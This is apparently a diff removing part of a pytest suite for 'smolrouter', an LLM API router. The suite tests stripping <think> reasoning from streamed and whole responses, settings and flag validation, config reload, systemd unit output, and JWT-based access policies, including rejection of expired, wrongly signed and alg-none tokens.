-    text = "<think>hidden</think>\nshown </think_> <thinking_hard> <b>"
-    shown = "shown </think_> <thinking_hard> <b>"
-
-    def split(*at: int) -> str:
-        model = stage().plays(sse_answer(stream_of(*(p.decode() for p in cut(text.encode(), *at)))))
-        return ask(shared(), model, stream=True).text
-
-    twice = [(a, b) for a in range(1, 24) for b in range(a, 26, 3)]
-    assert set(at_once(split, range(1, len(text)))) == {shown}
-    assert set(at_once(split, *zip(*twice, strict=True))) == {shown}
-    assert split(*range(1, len(text))) == shown
-
-
-def test_thinking_split_into_deltas_after_plain_text() -> None:
-    text = "a <think>hidden</think> b <thin"
-
-    def split(*at: int) -> str:
-        pieces = ["Hi ", *(p.decode() for p in cut(text.encode(), *at))]
-        model = stage().plays(sse_answer(stream_of(*pieces)))
-        return ask(shared(), model, stream=True).text
-
-    everywhere = range(1, len(text))
-    assert set(at_once(split, everywhere)) == {split(*everywhere)} == {"Hi a  b <thin"}
-
-
-def test_events_that_the_filter_does_not_change_are_not_changed() -> None:
-    odd = [
-        b": a comment\n\n",
-        b'event: x\nid: 7\nretry: 10\ndata: {"a":  1.0e0}\n\n',
-        b'data:{"choices":[{"delta":{"content":"\\u0048i \\/ \xc3"},"index":0}]}\n\n',
-        b'data: {"choices" : [ {"index":0, "delta":{ "content":"a < b" } } ] }\n\n',
-        b'data: not JSON\n\n', b'data: [1, 2]\ndata: null\n\n', b'data: [DONE]\n\n',
-    ]  # fmt: skip
-    model = stage().plays(sse_answer(odd))
-    assert ask(shared(), model, stream=True).content == b"".join(odd)
-    thought = stream_of("<think>", "hidden", "</think>")[:4]
-    model = stage().plays(sse_answer([*thought, *odd]))
-    got = ask(shared(), model, stream=True).content
-    assert got.endswith(b"".join(odd))
-    assert b"hidden" not in got and got.startswith(thought[0])
-
-
-@pytest.mark.parametrize("newline", [b"\n", b"\r\n", b"\r"])
-def test_stream_without_thinking_is_identical(newline: bytes) -> None:
-    data = b"".join(stream_of("Hello", " <b>wor", "ld</b> \\u003c")).replace(b"\n", newline)
-    model = stage().plays(stream_answer(cut(data, 9, 99)))
-    assert ask(shared(), model, stream=True).content == data
-
-
-@pytest.mark.parametrize("content", [
-    b'{"choices":[{"index":0,"message":{"content":"a < b  \\u00e9 \\u003cb>"}}] }\n',
-    b'{ "choices" : [], "n": 1.0, "big": 123456789012345678901234567890 }',
-    b'not JSON at all <b>', b'[1,2,3]', b'null', b'\xff\xfe<',
-])  # fmt: skip
-def test_answer_without_thinking_is_identical(content: bytes) -> None:
-    model = stage().plays(answer(content, kind="application/json"))
-    got = ask(shared(), model)
-    assert (got.status, got.content) == (200, content)
-
-
-WHOLE = {
-    "<think>hidden</think>\n\nshown": "shown",
-    "shown <think>hidden</think> too": "shown  too",
-    "hidden</think>\nshown": "shown",
-    "shown <think>hidden": "shown ",
-    "<think>a</think>shown<think>b</think>": "shown",
-    "  keep   the\n\n  white\tspace  ": "  keep   the\n\n  white\tspace  ",
-    "<think>a</think>```\n  code\n\n    more\n```\n": "```\n  code\n\n    more\n```\n",
-    "<thinking_hard>shown</thinking_hard>": "<thinking_hard>shown</thinking_hard>",
-}
-
-
-@pytest.mark.parametrize("said", WHOLE)
-def test_thinking_in_a_whole_answer(said: str) -> None:
-    for path, kind in ((CHAT, "chat"), ("/v1/completions", "text")):
-        model = stage().plays(json_answer(completion({}, said, kind)))
-        got = request(shared().port, "POST", path, {**ASKS[path], "model": model})
-        assert got.text == WHOLE[said]
-
-
-@pytest.mark.parametrize("path", ["/v1/completions", "/api/generate"])
-def test_thinking_in_streamed_text(path: str) -> None:
-    texts = [{"choices": [{"index": 0, "text": t}]} for t in THINKING]
-    model = stage().plays(sse_answer([*texts, "[DONE]"]))
-    got = request(shared().port, "POST", path, {"model": model, "prompt": "hi", "stream": True})
-    assert got.text == VISIBLE
-
-
-def test_thinking_in_very_long_events() -> None:
-    long = "x" * 1_000_000
-    texts = ("<think>" + long, long + "</think>", "\n" + long, long + "<thi", "ng>")
-    model = stage().plays(sse_answer(stream_of(*texts)))
-    assert ask(shared(), model, stream=True).text == long + long + "<thing>"
-    unclosed = "<think>" * 100_000 + "<" * 100_000
-    for said in (unclosed, "shown" + unclosed):
-        model = stage().plays(sse_answer(stream_of(said)))
-        assert ask(shared(), model, stream=True).text == said.partition("<")[0]
-        model = stage().plays(json_answer(completion({}, said)))
-        assert ask(shared(), model).text == said.partition("<")[0]
-
-
-def test_many_choices_in_one_document() -> None:
-    message = {"message": {"content": "<think>no</think>yes"}}
-    delta = {"delta": {"content": "<think>no</think>yes"}}
-    choices = [{"index": n, **message} for n in range(5000)]
-    events = [{"choices": [{"index": n, **delta} for n in range(5000)]}, "[DONE]"]
-    with Router({"DEFAULT_UPSTREAM": stage().url}) as router:  # it may freeze
-        model = stage().plays(json_answer({"choices": choices}))
-        assert ask(router, model).text == "yes" * 5000
-        model = stage().plays(sse_answer(events))
-        assert ask(router, model, stream=True).text == "yes" * 5000
-
-
-def test_many_model_names_in_one_request() -> None:
-    name = stage().plays(FINE)
-    names = b'"model":"old-%s",' % name.encode() * 200_000
-    settings = {
-        "DEFAULT_UPSTREAM": stage().url,
-        "MODEL_MAP": '{"/^old-(.*)/": "\\\\1"}',
-    }
-    with Router(settings) as router:  # it may freeze
-        got = request(router.port, "POST", CHAT, b'{%s"n": 1}' % names)
-        assert (got.status, router.stop()) in ((200, 0), (400, 0))
-
-
-@pytest.mark.parametrize("end", [b"", b"\n"])
-def test_a_last_event_without_its_end_is_not_lost(end: bytes) -> None:
-    data = b"".join(stream_of("Hello", " <b>"))[:-2] + end
-    model = stage().plays(stream_answer([data]))
-    assert ask(shared(), model, stream=True).content.rstrip() == data.rstrip()
-
-
-def test_thinking_elsewhere_stays() -> None:
-    said = "<think>kept</think>"
-    call = {"name": "f", "arguments": dumps({"a": said}).decode()}
-    delta = {"tool_calls": [{"index": 0, "function": call}], "reasoning_content": said}
-    events = [event({"choices": [{"index": 0, "delta": delta}]}), event("[DONE]")]
-    got = ask(shared(), stage().plays(sse_answer(events)), stream=True)
-    assert got.content == b"".join(events)
-    name = stage().plays(answer(said.encode(), kind="text/html"))
-    assert request(shared().port, "GET", f"/v1/{name}").content == said.encode()
-
-
-def test_content_beside_the_answer_does_not_begin_it() -> None:
-    found = {"search_results": [{"content": "found"}]}
-    for first in (
-        {"choices": [{"index": 0, "delta": {"content": ""}}], **found},
-        {"choices": [{"index": 0, "delta": {"reasoning": {"content": "hm"}}}]},
-    ):
-        events = [first, *deltas("<think>", "no", "</think>", "\n\nyes"), "[DONE]"]
-        got = ask(shared(), stage().plays(sse_answer([event(e) for e in events])), stream=True)
-        assert got.text == "yes"
-
-
-def test_each_choice_has_its_own_state() -> None:
-    first = deltas("<think>", "no", "</think>", "one", " more")
-    second = deltas("two", " <th", "ink>no", "</think>", "!", index=1)
-    both = [event(e) for pair in zip(first, second, strict=True) for e in pair]
-    got = ask(shared(), stage().plays(sse_answer([*both, "[DONE]"])), stream=True)
-    texts = {0: "", 1: ""}
-    for document in got.documents:
-        for choice in document["choices"]:
-            texts[choice["index"]] += choice["delta"].get("content", "")
-    assert texts == {0: "one more", 1: "two !"}
-
-
-def test_an_emptied_event_that_carries_more_stays() -> None:
-    carrier = {"index": 0, "delta": {"content": "<think>no"}, "finish_reason": "length"}
-    call = {"content": "</think>", "tool_calls": [{"index": 0, "id": "call-1"}]}
-    events = [
-        {"choices": [carrier], "usage": {"total_tokens": 3}},
-        {"choices": [{"index": 0, "delta": call}]},
-        "[DONE]",
-    ]
-    got = ask(shared(), stage().plays(sse_answer(events)), stream=True)
-    assert got.text == ""
-    first, second = got.documents
-    assert first["choices"][0]["finish_reason"] == "length"
-    assert first["usage"] == {"total_tokens": 3}
-    assert second["choices"][0]["delta"]["tool_calls"] == call["tool_calls"]
-
-
-def filtering(**settings: Any) -> Router:
-    """A router with these filters; it shares the upstream."""
-    return router_for({"DEFAULT_UPSTREAM": stage().url, **settings})
-
-
-FENCED = 'Here:\n```json\n{"a": "```",\n  "b": 1}\n```\nand\n```python\nx\n```\n'
-UNFENCED = 'Here:\n{"a": "```",\n  "b": 1}\nand\n```python\nx\n```\n'
-
-
-def test_fences_at_every_split() -> None:
-    router = filtering(STRIP_JSON_MARKDOWN=1)
-
-    def split(*at: int) -> str:
-        texts = [p.decode() for p in cut(FENCED.encode(), *at)]
-        model = stage().plays(sse_answer(stream_of(*texts)))
-        return ask(router, model, stream=True).text
-
-    assert set(at_once(split, range(1, len(FENCED)))) == {UNFENCED}
-    assert split(*range(1, len(FENCED))) == UNFENCED
-    whole = stage().plays(json_answer(completion({}, FENCED)))
-    assert ask(router, whole).text == UNFENCED
-    assert ask(shared(), whole).text == FENCED
-
-
-def test_think_stripping_can_be_off() -> None:
-    router = filtering(STRIP_THINKING="no")
-    data = b"".join(stream_of(*THINKING))
-    model = stage().plays(stream_answer([data]))
-    assert ask(router, model, stream=True).content == data
-
-
-def test_no_think_is_appended_to_the_last_user_message() -> None:
-    router = filtering(DISABLE_THINKING="true")
-    user = {"role": "user", "content": "one"}
-    parts = [{"type": "text", "text": "two"}, {"type": "image_url", "image_url": {}}]
-    ends = {"role": "assistant", "content": "three"}
-    name = stage().plays(FINE)
-    for messages in ([user, ends, {"role": "user", "content": parts}, ends], [user]):
-        request(router.port, "POST", CHAT, {"model": name, "messages": messages})
-    request(router.port, "POST", "/v1/completions", {"model": name, "prompt": "four"})
-    first, second, third = (received.json for received in stage().heard(name))
-    told = [{**parts[0], "text": "two /no_think"}, parts[1]]
-    assert first["messages"] == [user, ends, {"role": "user", "content": told}, ends]
-    assert second["messages"] == [{"role": "user", "content": "one /no_think"}]
-    assert third["prompt"] == "four /no_think"
-
-
-def test_fifty_streams_at_once_stay_apart() -> None:
-    def one(number: int) -> tuple[str, float]:
-        texts = [f"{number}.{n} " for n in range(20)]
-        sent: dict[str, float] = {}
-
-        def script(received: Received) -> Iterator[Step]:
-            yield from stream_answer(
-                [event(e) for e in deltas("<think>", "no", "</think>")], whole=False
-            )
-            for text in texts:
-                yield from chunked(event(deltas(text)[0]), end=b"")
-                sent[text] = time.monotonic()
-                yield 0.02
-            yield from chunked(event("[DONE]"))
-
-        body = chat(stage().plays(script), stream=True)
-        events = sse(shared().port, CHAT, body)
-        came = {
-            json.loads(e[6:])["choices"][0]["delta"]["content"]: at
-            for at, e in events
-            if b'"content"' in e
-        }
-        assert [t for t in came if t] == texts
-        assert events[-1][1] == b"data: [DONE]"
-        return str(number), max(came[t] - sent[t] for t in texts)
-
-    results = at_once(one, range(50), workers=50)
-    slowest = sorted(delay for _, delay in results)
-    print(
-        f"slowest event of a stream: {slowest[25] * 1e3:.1f} ms in the middle, "
-        f"{slowest[-1] * 1e3:.1f} ms at worst"
-    )
-    assert slowest[25] < 1.0
-
-
-@pytest.mark.parametrize("path", [CHAT, "/v1/completions", "/api/chat", "/api/generate"])
-def test_each_event_leaves_before_the_next_one_comes(path: str) -> None:
-    gates = [threading.Event() for _ in range(4)]
-    key = "text" if "chat" not in path else "delta"
-
-    def script(received: Received) -> Iterator[Step]:
-        yield from stream_answer([], whole=False)
-        for number, gate in enumerate(gates):
-            text = f"number-{number} "
-            said = text if key == "text" else {"content": text}
-            yield from chunked(event({"choices": [{"index": 0, key: said}]}), end=b"")
-            gate.wait(PATIENCE)
-        yield from chunked(event("[DONE]"))
-
-    model = stage().plays(script)
-    with connect(shared().port) as sock:
-        sock.sendall(post(path, {**ASKS[path], "model": model, "stream": True}))
-        for number, gate in enumerate(gates):
-            receive_until(sock, b"number-%d " % number)
-            gate.set()
-        receive_until(sock, b"0\r\n\r\n")
-
-
-# == 7. Settings and commands ======================================================
-
-SETTINGS: dict[str, tuple[list[str], list[str]]] = {
-    "DEFAULT_UPSTREAM": (
-        ["http://box:8000", "https://box/v1/", "box:8000", "http://[::1]:80/a/b"],
-        ["http://", "ftp://box", "http://box:port", "http://box:99999", "http://a b",
-         "http://box/v1/chat/completions"]),
-    "DEFAULT_ROUTE": (["http://box:8000"], []),
-    "LISTEN_HOST": (["127.0.0.1", "::1", "0.0.0.0", "localhost"], []),
-    "LISTEN_PORT": (["0", "1234", "65535"], ["x", "-1", "65536"]),
-    "MODEL_MAP": (
-        ["{}", '{"a": "b"}', r'{"/^(a|b)-x$/": "\\1-y"}', r'{"/(?P<n>a)/": "\\g<n>"}'],
-        ["[]", "{", '{"a": 1}', '{"/(/": "x"}', '{"/a/": "\\\\1"}', "gpt-4=llama"]),
-    "STRIP_THINKING": (["1", "TRUE", "Yes", "on"], ["2"]),
-    "STRIP_JSON_MARKDOWN": (["0", "False", "NO", "off"], ["ja"]),
-    "DISABLE_THINKING": (["true", "false"], ["enabled"]),
-    "ENABLE_LOGGING": (["true", "false"], ["-1"]),
-    "REQUEST_TIMEOUT": (["3000.0", "1", "0.5"], ["soon", "-1", "nan"]),
-    "CONNECT_TIMEOUT": (["5", "0.25"], ["soon"]),
-    "MAX_LOG_AGE_DAYS": (["7", "1"], ["week"]),
-    "BLOB_STORAGE_TYPE": (["filesystem", "memory"], ["s3"]),
-    "MAX_BLOB_SIZE": (["1000"], ["-1"]),
-    "MAX_TOTAL_STORAGE_SIZE": (["1000"], ["-1"]),
-    "MAX_REQUEST_SIZE": (["1000"], ["much", "1.5"]),
-    "MAX_CONNECTIONS": (["10"], ["many"]),
-    "JWT_SECRET": ([SECRET, f"  {SECRET} "], ["", "short", "ab" * 20, " " * 40]),
-    "WEBUI_SECURITY": (["NONE", "AUTH_WHEN_PROXIED"], ["SOMETIMES", "ALWAYS_AUTH"]),
-    "API_SECURITY": (["NONE", "AUTH_WHEN_PROXIED"], ["SOMETIMES", "ALWAYS_AUTH"]),
-    "TRUSTED_PROXIES": (["10.0.0.0/8, ::1", "10.0.0.1"], ["10.0.0.0/33", "proxy"]),
-    "ALLOWED_HOSTS": (["router.example", "a.example,b.example"], []),
-    "ALLOWED_ORIGINS": (["*", "https://a.example, https://b.example"], []),
-    "SHUTDOWN_GRACE": (["8", "0.5", "0"], ["soon", "-1"]),
-    "LOG_LEVEL": (["DEBUG", "INFO", "WARNING", "ERROR"], ["LOUD"]),
-    "ROUTES_CONFIG": ([], ["nowhere.yaml"]),
-}  # fmt: skip
-
-
-def test_good_settings() -> None:
-    good = {name: values for name, (values, _) in SETTINGS.items() if values}
-    for turn in range(max(map(len, good.values()))):
-        settings = {name: values[turn % len(values)] for name, values in good.items()}
-        done = run("check", settings=settings)
-        assert done.returncode == 0, done.stderr
-
-
-def test_bad_settings_stop_with_one_line(
-    tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.chdir(tmp_path)
-    for name, value in [(name, bad) for name, (_, values) in SETTINGS.items() for bad in values]:
-        with pytest.raises(smolrouter.ConfigError) as raised:
-            smolrouter.run_command(["check"], {name: value})
-        (line,) = str(raised.value).splitlines()
-        assert name in line or "JWT_SECRET" in line, line
-        assert value in line or name in ("JWT_SECRET", "MODEL_MAP"), line
-    done = run("check", settings={"LISTEN_PORT": "x"})
-    (line,) = done.stderr.strip().splitlines()
-    assert done.returncode == 2 and "LISTEN_PORT" in line and "'x'" in line
-
-
-def test_every_setting_may_be_missing() -> None:
-    done = run("check")
-    assert (done.returncode, done.stderr) == (0, "")
-    assert "http://localhost:8000" in done.stdout
-
-
-def test_serving_with_a_bad_setting_stops_with_status_2() -> None:
-    for args in ((), ("serve",)):
-        done = run(*args, settings={"LISTEN_PORT": "eighty"})
-        assert done.returncode == 2
-        (line,) = done.stderr.strip().splitlines()
-        assert "LISTEN_PORT" in line and "eighty" in line
-
-
-def test_a_flag_wins_over_the_environment() -> None:
-    settings = {"DEFAULT_UPSTREAM": "http://127.0.0.1:9", "STRIP_THINKING": "no"}
-    flags = ["--default-upstream", stage().url, "--strip-thinking", "yes"]
-    model = stage().plays(json_answer(completion({}, "<think>no</think>yes")))
-    for args in (flags, ["serve", *flags]):
-        with Router(settings, args=args) as router:
-            assert ask(router, model).text == "yes"
-
-
-def test_a_bad_flag_stops_with_status_2() -> None:
-    for args, words in (
-        (["--listen-port", "eighty"], "--listen-port='eighty': allowed is a whole number"),
-        (["--no-such-flag"], "--no-such-flag; see smolrouter --help"),
-        (
-            ["--default-upstrem", "http://x:1"],
-            "unknown flag --default-upstrem; did you mean --default-upstream?",
-        ),
-        (["--LISTEN_PORT=80"], "unknown flag --LISTEN_PORT; did you mean --listen-port?"),
-        (["export", "--sinse", "7d"], "unknown flag --sinse; did you mean --since?"),
-        (["serve", "--since", "7d"], "unknown flag --since; see smolrouter --help"),
-        (["explain", "m", "--sorce-host=::1"], "did you mean --source-host?"),
-        (["-p", "80"], "unknown flag -p; "),
-        (["--jwt-secret", "-hidden"], "--jwt-secret: expected one argument"),
-        (["export", "--format", "csv", "left", "over"], "unrecognized arguments: left over"),
-        (["--listen-port"], "--listen-port: expected one argument"),
-        (["no-such-command"], "'no-such-command' (choose from "),
-        (["token", "--subject", "me", "--days", "x"], "--days: 'x': allowed is a number from"),
-        (["token"], "required: --subject"),
-    ):
-        with pytest.raises(smolrouter.ConfigError) as raised:
-            smolrouter.run_command(args, {})
-        (line,) = str(raised.value).splitlines()
-        assert words in line, line
-    done = run("--default-upstrem", "http://x:1")
-    assert (done.returncode, done.stderr.count("\n")) == (2, 1)
-    assert done.stderr.startswith("smolrouter: unknown flag --default-upstrem; did you mean ")
-
-
-def test_an_old_python_is_told_so() -> None:
-    ast.parse(SOURCE, feature_version=(3, 8))  # else it would be told of a SyntaxError
-    pretend = "import sys; sys.version_info = (3, 9, 1); import smolrouter"
-    done = subprocess.run(
-        [sys.executable, "-c", pretend], cwd=HERE, text=True, capture_output=True, timeout=30
-    )
-    assert (done.returncode, done.stderr.count("\n")) == (1, 1)
-    assert done.stderr.startswith("SmolRouter needs Python 3.10 or newer")
-
-
-def test_a_port_that_is_taken_stops_with_one_line() -> None:
-    done = run(settings={"LISTEN_PORT": stage().port})
-    assert done.returncode
-    assert str(stage().port) in done.stderr
-    assert "Traceback" not in done.stderr
-
-
-TABLE: dict[str, Any] = {
-    "servers": {"fast-box": "http://127.0.0.1:9"},
-    "aliases": {"assistant": {"instances": ["fast-box/llama3-8b"]}},
-    "routes": [{"match": {"model": "/-1.5b$/", "source_host": "10.0.0.0/8"},
-                "route": {"upstream": "fast-box", "model": "small"}}],
-}  # fmt: skip
-
-
-@pytest.fixture
-def folder() -> Iterator[pathlib.Path]:
-    """An empty directory with the program in it, alone."""
-    with tempfile.TemporaryDirectory(prefix="smol-") as name:
-        shutil.copy(SMOLROUTER, pathlib.Path(name) / "smolrouter.py")
-        yield pathlib.Path(name)
-
-
-ALONE = [sys.executable, "-I", "-S", "smolrouter.py"]  # -S: no PyYAML either
-
-
-def alone(folder: pathlib.Path, *args: str, **settings: Any) -> Any:
-    """Run a command of the lone program without any package."""
-    kept = {name: os.environ[name] for name in ("PATH", "HOME") if name in os.environ}
-    environment = kept | {name: str(value) for name, value in settings.items()}
-    return subprocess.run(
-        [*ALONE, *args],
-        cwd=folder,
-        env=environment,
-        text=True,
-        capture_output=True,
-        timeout=30,
-    )
-
-
-def test_alone_it_relays(folder: pathlib.Path) -> None:
-    python = (sys.executable, "-I", "-S")
-    settings = {"DEFAULT_UPSTREAM": stage().url}
-    routes = {"aliases": {"friend": {"instances": [{"url": stage().url, "model": "m"}]}}}
-    with Router(settings, routes, python=python, program=folder / "smolrouter.py") as it:
-        assert ask(it, "tiny").text == "You said: hi"
-        assert ask(it, "friend", stream=True).text == "You said: hi"
-        assert it.stop() == 0
-        assert "Traceback" not in it.stderr
-
-
-def test_alone_it_checks_json(folder: pathlib.Path) -> None:
-    (folder / "routes.yaml").write_text(json.dumps(TABLE, indent=1))
-    done = alone(folder, "check")
-    assert (done.returncode, done.stderr) == (0, "")
-    (folder / "routes.yaml").write_text(json.dumps({**TABLE, "rotues": []}))
-    done = alone(folder, "check")
-    assert done.returncode == 2
-    assert "rotues" in done.stderr and "routes.yaml" in done.stderr
-
-
-@pytest.mark.parametrize("text", ["", " \n", "\ufeff{}", "\n {}\n"], ids=ascii)
-def test_alone_it_reads_json_with_a_margin(folder: pathlib.Path, text: str) -> None:
-    (folder / "routes.yaml").write_text(text, "utf-8")
-    done = alone(folder, "check")
-    assert (done.returncode, done.stderr) == (0, "")
-
-
-def test_alone_it_says_what_yaml_needs(folder: pathlib.Path) -> None:
-    (folder / "routes.yaml").write_text("servers:\n  fast-box: http://127.0.0.1:9\n")
-    done = alone(folder, "check")
-    assert done.returncode == 2
-    (line,) = done.stderr.strip().splitlines()
-    assert "pip install pyyaml" in line and "python3-yaml" in line and "or write JSON" in line
-
-
-def test_check_prints_the_table(folder: pathlib.Path) -> None:
-    (folder / "table.json").write_text(json.dumps(TABLE))
-    done = alone(folder, "check", ROUTES_CONFIG=folder / "table.json")
-    assert done.returncode == 0
-    for word in ("fast-box", "http://127.0.0.1:9", "assistant", "llama3-8b", "small"):
-        assert word in done.stdout
-
-
-def test_check_warns_of_what_hardly_is_meant(folder: pathlib.Path) -> None:
-    rules = [
-        {"match": match, "route": {"model": "x"}}
-        for match in ({"model": "gpt-*"}, {"model": "/a.*/"}, {}, {"model": "b"}, {})
-    ]
-    (folder / "routes.yaml").write_text(json.dumps({"servers": {"a": "box:1"}, "routes": rules}))
-    done = alone(folder, "check", MODEL_MAP='{"claude-*": "b"}')
-    assert done.returncode == 0
-    assert [line for line in done.stdout.splitlines() if line.startswith("warning: ")] == [
-        "warning: servers.a: 'box:1' has no scheme; http:// is assumed",
-        "warning: routes[0]: 'gpt-*' is an exact name; a pattern is written /^gpt-/",
-        "warning: MODEL_MAP: 'claude-*' is an exact name; a pattern is written /^gpt-/",
-        "warning: routes[2] matches everything: what stands behind it is never reached",
-    ]
-
-
-def test_one_is_not_many(folder: pathlib.Path) -> None:
-    (folder / "routes.yaml").write_text(json.dumps(TABLE))
-    done = alone(folder, "check", MODEL_MAP='{"a": "b", "c": "d"}')
-    counts = "1 server, 1 alias, 1 route, 2 mapped names"
-    assert done.stdout.splitlines()[0] == f"routes: routes.yaml: {counts}"
-
-
-def test_demo(folder: pathlib.Path) -> None:
-    """Its requests are answered, by the second server where the first one fails."""
-    command = [sys.executable, "smolrouter.py", "demo", "--seconds", "30"]
-    with subprocess.Popen(
-        [*command, "--listen-port", "0"],
-        cwd=folder, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
-        env={"SHUTDOWN_GRACE": "0"},
-    ) as demo:  # fmt: skip
-        ending = threading.Timer(20, demo.kill)
-        ending.start()
-        try:
-            lines = [demo.stdout.readline() for _ in range(3)]
-        finally:
-            demo.send_signal(signal.SIGTERM)
-            demo.communicate(timeout=20)
-            ending.cancel()
-    assert lines[0].startswith("Open http://127.0.0.1:")
-    for line, model in zip(lines[1:], ("gpt-4", "coding-assistant"), strict=True):
-        assert f" {model} -> qwen3-8b: 200, " in line
-    assert demo.returncode == 0
-
-
-@pytest.mark.parametrize(
-    "args, words",
-    [
-        (["assistant"], ["assistant", "fast-box", "llama3-8b", "http://127.0.0.1:9"]),
-        (["x-1.5b", "--source-host", "10.9.8.7"], ["routes[0]", "small"]),
-        (
-            ["x-1.5b", "--source-host", "11.9.8.7"],
-            ["routes[0]", "http://localhost:8000"],
-        ),
-        (["other"], ["DEFAULT_UPSTREAM", "http://localhost:8000"]),
-    ],
-)
-def test_explain(folder: pathlib.Path, args: list[str], words: list[str]) -> None:
-    (folder / "routes.yaml").write_text(json.dumps(TABLE))
-    done = alone(folder, "explain", *args)
-    assert (done.returncode, done.stderr) == (0, "")
-    for word in words:
-        assert word in done.stdout
-
-
-def test_health() -> None:
-    port = shared().port
-    assert run("health", settings={"LISTEN_PORT": port}).returncode == 0
-    assert run("health", "--listen-port", str(port)).returncode == 0
-    wildcard = {"LISTEN_PORT": port, "LISTEN_HOST": "0.0.0.0"}
-    assert run("health", settings=wildcard).returncode == 0
-    nobody = refusing().rpartition(":")[2]
-    done = run("health", settings={"LISTEN_PORT": nobody})
-    assert done.returncode == 1
-    assert "Traceback" not in done.stderr
-
-
-def test_healthz() -> None:
-    got = request(shared().port, "GET", "/healthz")
-    assert (got.status, got.json["status"]) == (200, "ok")
-
-
-def test_unit(folder: pathlib.Path) -> None:
-    done = alone(folder, "unit", LISTEN_PORT=4321)
-    assert done.returncode == 0
-    assert all(line.startswith("warning: ") for line in done.stderr.splitlines())
-    for word in (
-        "[Unit]",
-        "[Service]",
-        "[Install]",
-        "ExecStart=",
-        "4321",
-        str(folder / "smolrouter.py"),
-        "NoNewPrivileges=",
-    ):
-        assert word in done.stdout
-    if shutil.which("systemd-analyze"):
-        (folder / "smolrouter.service").write_text(done.stdout)
-        unit = folder / "smolrouter.service"
-        subprocess.run(["systemd-analyze", "verify", unit], check=True, timeout=30)
-        judged = subprocess.run(
-            ["systemd-analyze", "security", "--offline=true", "--threshold=15", unit],
-            text=True,
-            capture_output=True,
-            timeout=30,
-        )  # 1.5 of 10; an unconfined one has 9.6
-        assert "unrecognized option" in judged.stderr or judged.returncode == 0, judged.stdout
-
-
-def test_version_and_help() -> None:
-    assert re.search(r"\b\d+\.\d+\.\d+\b", run("--version").stdout)
-    done = run("--help")
-    assert done.returncode == 0
-    for word in (
-        "serve",
-        "check",
-        "explain",
-        "token",
-        "health",
-        "unit",
-        "demo",
-        "--listen-port",
-        "--routes-config",
-    ):
-        assert word in done.stdout
-
-
-def test_stdout_that_is_closed_is_no_traceback() -> None:
-    reader, writer = os.pipe()
-    os.close(reader)
-    done = subprocess.run(
-        [sys.executable, str(SMOLROUTER), "--help"],
-        stdout=writer,
-        stderr=subprocess.PIPE,
-        timeout=30,
-    )
-    os.close(writer)
-    assert b"Traceback" not in done.stderr
-
-
-def table(upstream: str) -> str:
-    """A routing file that sends `moving` to this upstream."""
-    return json.dumps({"aliases": {"moving": {"instances": [{"url": upstream, "model": "m"}]}}})
-
-
-@pytest.mark.parametrize("by_signal", [True, False])
-def test_reload(by_signal: bool) -> None:
-    def says(word: str) -> Upstream:
-        return Upstream(lambda r: json_answer({"by": word}))
-
-    with says("old") as old, says("new") as new, Router({}, table(old.url)) as router:
-
-        def written(text: str) -> None:
-            fresh = router.folder / "fresh"
-            fresh.write_text(text)
-            os.replace(fresh, router.routes)
-            if by_signal:
-                router.signal(signal.SIGHUP)
-
-        assert ask(router, "moving").json == {"by": "old"}
-        quiet = len(router.stderr)
-        written('{"aliases": {"moving": {"instances": []}}}')
-        assert until(lambda: "moving" in router.stderr[quiet:])
-        assert ask(router, "moving").json == {"by": "old"}
-        written(table(new.url))
-        assert until(lambda: ask(router, "moving").json == {"by": "new"})
-        written("{nonsense")
-        quiet = len(router.stderr)
-        assert until(lambda: "table.conf" in router.stderr[quiet:])
-        assert ask(router, "moving").json == {"by": "new"}
-        assert router.process.poll() is None
-
-
-# == 8. Who may do what ============================================================
-
-PAST, AHEAD = 1_000_000_000, 32_503_680_000
-BY_PROXY = ("X-Forwarded-For", "203.0.113.9")
-CARRIED: dict[str, str] = {  # what a client may send for a token, by what is wrong with it
-    "none": "",
-    "bad": jwt(HS256, {"exp": AHEAD}, "another key, as long as it should be"),
-    "expired": jwt(HS256, {"exp": PAST}, SECRET),
-    "wrong alg": jwt({"alg": "none"}, {"exp": AHEAD}, SECRET),
-    "good": jwt(HS256, {"exp": AHEAD}, SECRET),
-}
-GOOD = CARRIED["good"]
-POLICIES = [(name, secret) for name in smolrouter.POLICIES for secret in (SECRET, "")]
-POLICIES.remove(("ALWAYS_AUTH", ""))  # the router does not start
-
-
-def guarded_by(policy: str, secret: str = SECRET, **more: Any) -> Router:
-    """A router with this policy for everything."""
-    settings = {"WEBUI_SECURITY": policy, "API_SECURITY": policy, **more}
-    if secret:
-        settings["JWT_SECRET"] = secret
-    return router_for({"DEFAULT_UPSTREAM": stage().url, "LOG_LEVEL": "ERROR", **settings})
-
-
-def example_of(endpoint: Any) -> tuple[str, str]:
-    """A method and a path that this endpoint serves."""
-    path = endpoint.paths.split()[0].replace("**", "access").replace("*", "access")
-    method = "HEAD" if path == "/api/events" else endpoint.methods.split()[0]  # GET has no end
-    return method, path
-
-
-NUMBERS = itertools.count(2)
-
-
-def another_address() -> str:
-    """A loopback address that has not failed yet."""
-    return "127.77.{}.{}".format(*divmod(next(NUMBERS), 250))
-
-
-def statuses(router: Router, *asked: tuple[str, str, Pairs]) -> list[int]:
-    """The statuses of requests on one connection, from an address of its own."""
-    found, source = [], another_address()
-    with contextlib.ExitStack() as stack:
-        sock = None
-        for method, path, fields in asked:
-            sock = sock or stack.enter_context(
-                socket.create_connection(("127.0.0.1", router.port), PATIENCE, (source, 0))
-            )
-            sized = [("Content-Length", "2")] if method == "POST" else []
-            lines = [f"{n}: {v}\r\n" for n, v in (("Host", "router"), *sized, *fields)]
-            top = f"{method} {path} HTTP/1.1\r\n{''.join(lines)}\r\n".encode()
-            sock.sendall(top + b"{}" * bool(sized))
-            data = receive_until(sock, b"\r\n\r\n")
-            found.append(int(data.split()[1]))
-            if b"\r\nTransfer-Encoding: chunked\r\n" in data:
-                sock = None  # it may have no end
-                continue
-            rest = 0 if method == "HEAD" else parse(data, True).get("Content-Length") or 0
-            rest = int(rest) - len(data.partition(b"\r\n\r\n")[2])
-            while rest > 0:
-                rest -= len(sock.recv(rest))
-    return found
-
-
-def wanted_status(guard: str, policy: str, secret: str, token: str, proxied: bool) -> int:
-    """What the table of the policies says; 200 stands for being let in."""
-    open_to_all = guard not in ("api_security", "webui_security") or policy == "NONE"
-    if open_to_all or (policy == "AUTH_WHEN_PROXIED" and not proxied):
-        return 200
-    if not secret:
-        return 403
-    return 200 if token == "good" else 401
-
-
-@pytest.mark.parametrize("policy, secret", POLICIES)
